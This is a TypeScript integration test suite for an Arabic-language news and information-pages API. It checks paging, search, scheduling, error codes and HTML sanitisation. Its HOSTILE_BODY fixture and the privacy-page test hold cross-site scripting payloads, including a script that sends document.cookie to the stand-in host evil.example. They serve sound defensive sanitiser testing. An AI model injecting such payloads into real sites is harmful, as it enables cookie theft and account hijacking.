import { eq } from 'drizzle-orm';
import type { TQuery } from '@sarraf/contracts/api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { informationPages, news } from '../../src/db/schema/index';
import { CONTENT_TAGS } from '../../src/services/content-cache';
import { serviceDayOf } from '../support/service-day';
import { startTestServer, type TestServer } from '../support/test-server';

/** A body an attacker with a stolen editor account, or a careless import, might store. */
const HOSTILE_BODY =
  '<p onclick="steal()">خبر <strong>مهم</strong></p>' +
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
  '<img src="x" onerror="alert(1)"><img src="javascript:alert(2)">' +
  '<a href="javascript:alert(3)">اضغط هنا</a><a href="JaVaScRiPt:alert(4)">هنا</a>' +
  '<iframe src="https://evil.example"></iframe><svg onload="alert(5)"></svg>' +
  '<a href="https://example.com/ok" target="_blank">مصدر</a>';

describe('news and information pages', () => {
  let server: TestServer;
  const list = (query: TQuery<'getNews'> = {}) => server.api.ok('getNews', { query });
  const item = (id: number | string) => server.api.ok('getNewsItem', { params: { id } });
  const insertNews = async (values: Partial<typeof news.$inferInsert>) => {
    const [row] = await server.database.db
      .insert(news)
      .values({
        title: 'خبر',
        bodyHtml: '<p>نص</p>',
        status: 'published',
        publishedAt: new Date(),
        ...values,
      })
      .returning({ id: news.id });
    await server.contentCache.invalidate([CONTENT_TAGS.news]);
    return row!.id;
  };

  beforeAll(async () => {
    server = await startTestServer();
  });
  afterAll(() => server.close());

  describe('GET /api/client/get/news', () => {
    it('lists published news newest first, paged, without bodies', async () => {
      const body = await list();
      expect(body.meta).toEqual({ current_page: 1, per_page: 20, total: 14, last_page: 1 });
      const times = body.data.map((n) => Date.parse(n.published_at));
      expect([...times].sort((a, b) => b - a)).toEqual(times);
      expect(body.data[0]).toMatchObject({
        title: 'استقرار الريال أمام الدولار في سوق صنعاء',
        image_url: null,
      });
      expect(body.data[0]).not.toHaveProperty('body_html');
      const page = await list({ per_page: 5, page: 3 });
      expect(page.data).toHaveLength(4);
      expect(page.meta.last_page).toBe(3);
      expect((await list({ per_page: 5, page: 4 })).data).toEqual([]);
    });

    it.each([
      ['اسعار الذهب', ['أسعار الذهب ترتفع محلياً متأثرة بصعود الأسعار العالمية']],
      ['أسعار الذَّهب', ['أسعار الذهب ترتفع محلياً متأثرة بصعود الأسعار العالمية']],
      ['الاحتيال', ['نصائح لحماية حوالاتك المالية من الاحتيال']],
      ['الدينار الكويتى', ['الدينار الكويتي يتصدر قائمة أعلى العملات قيمة أمام الريال']],
      ['اسطوانات الغاز', ['تحديث أسعار أسطوانات الغاز المنزلي في عدن']],
    ])('finds %s by Arabic-normalised search', async (search, titles) => {
      const body = await list({ search });
      expect(body.data.map((n) => n.title)).toEqual(titles);
    });

    it('filters by a date range, a bare `to` day included whole', async () => {
      const all = (await list({ per_page: 100 })).data;
      // A bare day is a day of the service's zone, not of UTC (the newest item may be tomorrow there).
      const day = serviceDayOf(all[0]!.published_at);
      const body = await list({ from: day, to: day });
      expect(body.data.length).toBeGreaterThan(0);
      expect(body.data.every((n) => serviceDayOf(n.published_at) === day)).toBe(true);
      const before = await list({ to: all[5]!.published_at, per_page: 100 });
      expect(before.data.map((n) => n.id)).toEqual(all.slice(5).map((n) => n.id));
      const after = await list({ from: all[2]!.published_at });
      expect(after.data.map((n) => n.id)).toEqual(all.slice(0, 3).map((n) => n.id));
    });

    it('hides drafts and items scheduled for later', async () => {
      await insertNews({ title: 'مسودة سرية', status: 'draft', publishedAt: null });
      await insertNews({ title: 'خبر مجدول', publishedAt: new Date(Date.now() + 60 * 60_000) });
      const body = await list({ search: 'سرية' });
      expect(body.data).toEqual([]);
      expect((await list({ search: 'مجدول' })).data).toEqual([]);
    });

    it('shows a scheduled item once its time has come, even from the cache', async () => {
      await insertNews({ title: 'خبر عاجل للاختبار', publishedAt: new Date(Date.now() + 1_500) });
      expect((await list({ search: 'عاجل للاختبار' })).data).toEqual([]);
      await new Promise((resolve) => setTimeout(resolve, 1_700));
      expect((await list({ search: 'عاجل للاختبار' })).data).toHaveLength(1);
    });

    it.each([
      ['from=2025-13-01', 'from'],
      ['to=tomorrow', 'to'],
      ['from=2025-02-01&to=2025-01-31', 'to'],
      ['page=x', 'page'],
      ['per_page=101', 'per_page'],
    ])('answers 422 to %s', async (query, field) => {
      const body = await server.api.fails('getNews', 422, { rawQuery: query });
      expect(Object.keys(body.errors ?? {})).toEqual([field]);
    });
  });

  describe('GET /api/client/get/news/:id', () => {
    it('gives one item with its sanitised body', async () => {
      const body = await item(4);
      expect(body.data).toMatchObject({
        id: 4,
        title: 'أسعار الذهب ترتفع محلياً متأثرة بصعود الأسعار العالمية',
      });
      expect(body.data.body_html).toContain('<ul><li>عيار 24');
      expect(Date.parse(body.data.updated_at)).not.toBeNaN();
    });

    it('serves a hostile body without script, event handlers or javascript: URLs', async () => {
      const id = await insertNews({ title: 'خبر ملغوم', bodyHtml: HOSTILE_BODY });
      const body = await item(id);
      const html = body.data.body_html;
      expect(html).not.toMatch(/<script|<iframe|<svg/i);
      expect(html).not.toMatch(/\son\w+\s*=/i);
      expect(html).not.toMatch(/javascript:/i);
      expect(html).toContain('<p>خبر <strong>مهم</strong></p>');
      expect(html).toContain(
        '<a href="https://example.com/ok" target="_blank" rel="noopener noreferrer">مصدر</a>',
      );
    });

    it('answers 404 to an unknown id, a draft and an item not yet published', async () => {
      const draft = await insertNews({ status: 'draft', publishedAt: null });
      const later = await insertNews({ publishedAt: new Date(Date.now() + 60 * 60_000) });
      for (const id of [999999, draft, later]) {
        const body = await server.api.fails('getNewsItem', 404, { params: { id } });
        expect(body.message).toBe('المورد المطلوب غير موجود.');
      }
    });

    it.each(['abc', '0', '-1', '1.5', '99999999999'])('answers 422 to the malformed id %s', async (id) => {
      const body = await server.api.fails('getNewsItem', 422, { params: { id } });
      expect(Object.keys(body.errors ?? {})).toEqual(['id']);
    });
  });

  describe('GET /api/get/informations', () => {
    it('gives who we are, privacy and terms, in that order', async () => {
      const body = await server.api.ok('getInformations');
      expect(body.data.map((p) => [p.key, p.title])).toEqual([
        ['who', 'من نحن'],
        ['privacy', 'سياسة الخصوصية'],
        ['terms', 'الشروط والأحكام'],
      ]);
      expect(body.data[2]!.body_html).toContain('4545');
    });

    it('gives one page by key, sanitised', async () => {
      await server.database.db
        .update(informationPages)
        .set({ bodyHtml: '<p>خصوصيتك</p><script>alert(1)</script><a href="javascript:x()">x</a>' })
        .where(eq(informationPages.key, 'privacy'));
      await server.contentCache.invalidate([CONTENT_TAGS.informations]);
      const body = await server.api.ok('getInformations', { query: { key: 'privacy' } });
      expect(body.data).toHaveLength(1);
      expect(body.data[0]!.body_html).toBe('<p>خصوصيتك</p><a>x</a>');
    });

    it('answers 422 to an unknown key', async () => {
      const body = await server.api.fails('getInformations', 422, { rawQuery: { key: 'about' } });
      expect(Object.keys(body.errors ?? {})).toEqual(['key']);
    });
  });
});
